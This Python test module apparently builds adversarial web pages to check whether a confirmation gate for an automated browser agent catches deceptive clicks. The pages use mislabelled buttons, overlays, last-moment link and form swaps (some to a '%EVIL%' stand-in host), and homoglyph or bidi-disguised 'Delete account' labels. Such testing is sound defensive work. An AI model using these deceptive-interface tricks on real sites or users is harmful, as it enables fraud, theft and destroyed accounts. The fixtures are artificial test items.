# ruff: noqa: E501 - pages and calls read best as one line each
"""Attacks by what an element is called, what lies in or around it, and what becomes of it at the last moment."""

from __future__ import annotations

from gate_suite.attacks_keys import HELLO, LEAVE, START, grave, sends
from gate_suite.case import HASTY, Call, Case, Rule


def _click(name: str, html: str, ref: str, person: Rule = HASTY, **more: object) -> Case:
    call = Call("click", {"ref": f"@{ref}", **more})
    if ref.startswith("*"):
        # Browsers call it differently; it is the only one there.
        return Case(f"click: {name}", {"home": html}, (*START, call), person)
    return Case(f"click: {name}", {"home": HELLO + html}, (*LEAVE, call), person)


_INNER = f"<style>.l{{display:block;width:160px;height:40px;position:relative}}.l>button{{position:absolute;inset:6px}}</style><a class=l href='#lamp'>Lamp<button onclick=\"event.preventDefault();{sends('buy')}\">Buy now</button></a>"
_ROW = f"<div role=option tabindex=0 style='width:220px;height:40px;position:relative'>Mail from Ann<button style='position:absolute;right:0;top:0;width:80px;height:40px' onclick=\"{sends('delete')}\">Delete</button></div>"
_YES = Rule(("Hello", "Click"))
CLICKS = (
    _click("a control inside a link", _INNER, 'link "Lamp'),
    _click("a control inside a link, by a place", _INNER, 'link "Lamp', x=80, y=20),
    _click("a control inside a link, with the middle button", _INNER, 'link "Lamp', button="middle"),
    _click("a control inside a row, by a place", _ROW, 'option "Mail from Ann', x=190, y=20),
    _click("a place beyond the element", f"<button>Next</button>{grave('Delete account')}", 'button "Next"', x=5, y=45),
    _click(
        "a name that hides the text",
        f'<button aria-label=Next onclick="{sends("delete")}">Delete everything</button>',
        'button "Next"',
    ),
    _click(
        "a text that hides the name",
        f"<button aria-label='Delete everything' onclick=\"{sends('delete')}\">Next</button>",
        'button "Delete everything"',
    ),
    _click(
        "an icon without words",
        f'<button onclick="{sends("delete")}"><svg width=20 height=20 class=trash></svg></button>',
        "button",
        Rule(("Hello",)),
    ),
    _click(
        "Confirm in a dialog about deleting",
        f"<div role=dialog aria-label='Delete account?'>For good. <button onclick=\"{sends('delete')}\">Confirm</button></div>",
        'button "Confirm"',
    ),
    _click(
        "Yes under a heading about deleting",
        f'<section><h2>Delete your account?</h2><p>For good.</p><button onclick="{sends("delete")}">Yes</button></section>',
        'button "Yes"',
    ),
    _click(
        "Continue in a form that pays",
        "<form method=post action=grave/pay><input aria-label=Amount><button>Continue</button></form>",
        'button "Continue"',
    ),
    _click(
        "OK in a form whose button pays elsewhere",
        "<form method=post action=x><button formaction=grave/payment>OK</button></form>",
        'button "OK"',
    ),
    _click("a link whose address deletes", "<a href='/%N%/grave/delete?id=5'>Tidy up</a>", 'link "Tidy up"'),
    _click(
        "a link whose address logs the person's account off for good",
        "<a href='/%N%/grave/close-account'>Continue</a>",
        'link "Continue"',
    ),
    _click(
        "a picture that submits",
        "<form method=post action=grave/pay><input type=image width=30 height=30 src=x></form>",
        "*button",
        Rule(("Hello",)),
    ),
    _click(
        "a picture with words that submits",
        "<form method=post action=grave/pay><input type=image alt='Pay now' width=90 height=30 src=x></form>",
        'button "Pay now"',
    ),
    _click(
        "a label of a switch",
        f'<label for=c><span>Delete everything</span></label><input id=c type=checkbox onchange="{sends("delete")}">',
        'checkbox "Delete everything"',
    ),
    _click(
        "words that come from a style",
        f"<style>#w::before{{content:'Delete everything'}}</style><button id=w onclick=\"{sends('delete')}\"></button>",
        "*button",
        Rule(("Hello",)),
    ),
    _click(
        "a role that hides a button",
        f"<button role=textbox aria-label='Pay now' onclick=\"{sends('pay')}\">x</button>",
        'textbox "Pay now"',
    ),
    _click(
        "a role of a box to tick",
        f"<div role=checkbox tabindex=0 aria-label='Delete my account' onclick=\"{sends('delete')}\">x</div>",
        'checkbox "Delete my account"',
    ),
    _click(
        "twice, the second on what came there",
        f"<button id=n onclick=\"this.textContent='Delete account';this.onclick=()=>{sends('delete')}\">Next</button>",
        'button "Next"',
        count=2,
    ),
    _click(
        "with the other button",
        f'<button oncontextmenu="{sends("delete")}">Delete account</button>',
        'button "Delete account"',
        button="right",
    ),
    _click(
        "a button far away in the same form",
        "<form id=f method=post action=grave/order></form><p><button form=f>Place order</button>",
        'button "Place order"',
    ),
    _click(
        "a summary that pays", f'<details ontoggle="{sends("pay")}"><summary>Pay now</summary>x</details>', "*button"
    ),
)
CHANGES = {
    "the label": "document.querySelector('#n').textContent='Delete account'",
    "the name": "document.querySelector('#n').ariaLabel='Delete account'",
    "a twin in its place": "const n=document.querySelector('#n'),c=n.cloneNode(true);c.onclick=n.onclick;n.replaceWith(c)",
    "its place in the form": "document.querySelector('#n').setAttribute('formaction','/%N%/grave/pay')",
    "where its form goes": "document.querySelector('form').action='%EVIL%/grave/steal'",
    "how its form goes": "document.querySelector('form').method='get'",
    "what lies over it": f"document.body.insertAdjacentHTML('beforeend','<button style=\"position:fixed;inset:0\" id=o>Pay now</button>'),o.onclick=()=>{sends('pay')}",
    "the page": "location.href='%HOME%/next'",
    "the site": "location.href='%EVIL%/same'",
}
"""What a page does while the card is shown, so that something else would be pressed than what was shown."""
_NEXT = "<form method=post action=grave/sent><button id=n name=b>Next</button></form>"
SWAPS = tuple(
    Case(
        f"while the card is shown: {what} changes",
        {"home": HELLO + _NEXT, "home/next": HELLO + _NEXT, "evil/same": HELLO + _NEXT},
        (*LEAVE, Call("click", {"ref": '@button "Next"'}, optional=True)),
        Rule(("Hello", "Next"), once=True, meanwhile=script),
    )
    for what, script in CHANGES.items()
)
MOMENTS = tuple(
    Case(
        f"as it is pressed: {what}",
        {"home": HELLO + html},
        (*LEAVE, Call("click", {"ref": ref})),
        Rule(("Hello", "Next", "Save"), once=True),
    )
    for what, html, ref in (
        ("a link leads elsewhere", "<a href=#a onmousedown=\"this.href='%EVIL%/grave/x'\">Next</a>", '@link "Next"'),
        (
            "a link leads elsewhere at the click",
            "<a href=#a onclick=\"this.href='%EVIL%/grave/x'\">Next</a>",
            '@link "Next"',
        ),
        (
            "a link turns to another address of its site",
            "<a href=#a onmousedown=\"this.href='grave/delete'\">Next</a>",
            '@link "Next"',
        ),
        (
            "a form turns to another address of its site",
            "<form method=post action=plain/x><button onmousedown=\"this.form.action='grave/delete'\">Save</button></form>",
            '@button "Save"',
        ),
        (
            "a form goes elsewhere",
            "<form method=post action=plain/x><button onmousedown=\"this.form.action='%EVIL%/grave/x'\">Save</button></form>",
            '@button "Save"',
        ),
        (
            "a form goes elsewhere at the click",
            "<form method=post action=plain/x><button onclick=\"this.form.action='%EVIL%/grave/x'\">Save</button></form>",
            '@button "Save"',
        ),
        (
            "a form goes elsewhere as it is sent",
            "<form method=post action=plain/x onsubmit=\"this.action='%EVIL%/grave/x'\"><button>Save</button></form>",
            '@button "Save"',
        ),
        (
            "something else comes under the pointer",
            f"<div style='position:relative;height:60px'><button style='position:absolute;left:0;top:0' onpointerover=\"document.querySelector('#g').style.zIndex=9\">Next</button><button id=g style='position:absolute;left:0;top:0;width:200px;height:60px;z-index:-1' onclick=\"{sends('pay')}\">Pay now</button></div>",
            '@button "Next"',
        ),
        (
            "its words change under the pointer",
            f"<button onpointerover=\"this.textContent='Delete account'\" onclick=\"this.textContent!=='Next'&&{sends('delete')}\">Next</button>",
            '@button "Next"',
        ),
    )
)
LABELS = (
    *(
        "Delete account",
        "DELETE ACCOUNT",
        "D e l e t e account",
        "De\u200blete account",
        "Dеlеtе account",
        "Ｄｅｌｅｔｅ account",
        "De\u00adlete account",
        "\u202eetele\u202cD \u202eetelD\u202c Delete",
        "Delet\u0435 all",
        "Ḍelete everything",
    ),
    *(
        "Place order",
        "Checkout",
        "Buy it now",
        "Pay 49,90",
        "Proceed to payment",
        "Place bid",
        "Empty trash",
        "Remove account",
        "Close account",
        "Cancel subscription",
        "Publish",
        "Send money",
        "Transfer",
        "Unsubscribe",
        "Grant access",
        "Make public",
        "Deactivate",
        "Wipe device",
        "Sign contract",
        "Donate 20",
    ),
    *(
        "Kostenpflichtig bestellen",
        "Konto löschen",
        "Überweisen",
        "Supprimer le compte",
        "Payer",
        "Eliminar cuenta",
        "Comprar ahora",
        "Elimina account",
        "Acquista",
        "Excluir conta",
        "Verwijderen",
        "Usuń konto",
        "删除账户",
        "立即购买",
        "アカウントを削除",
        "購入する",
        "계정 삭제",
        "Удалить аккаунт",
        "Оплатить",
        "حذف الحساب",
        "Hesabı sil",
        "Satın al",
        "खाता हटाएं",
        "Smazat účet",
        "Radera konto",
        "Slet konto",
        "Poista tili",
        "Xóa tài khoản",
        "Hapus akun",
    ),
)
"""What grave buttons are called, also disguised; a hasty person would let them pass if the card did not mark them."""
LABELLED = tuple(
    Case(
        f"labels: {', '.join(labels[:3])} …",
        {
            "home": HELLO
            + "".join(
                f'<p><button onclick="{sends(f"{at}-{place}")}">{label}</button>' for place, label in enumerate(labels)
            )
        },
        (*LEAVE, *(Call("click", {"ref": f'@button "{label}"'}, optional=True) for label in labels)),
    )
    for at, labels in enumerate(LABELS[start : start + 6] for start in range(0, len(LABELS), 6))
)
CASES = (*CLICKS, *SWAPS, *MOMENTS, *LABELLED)
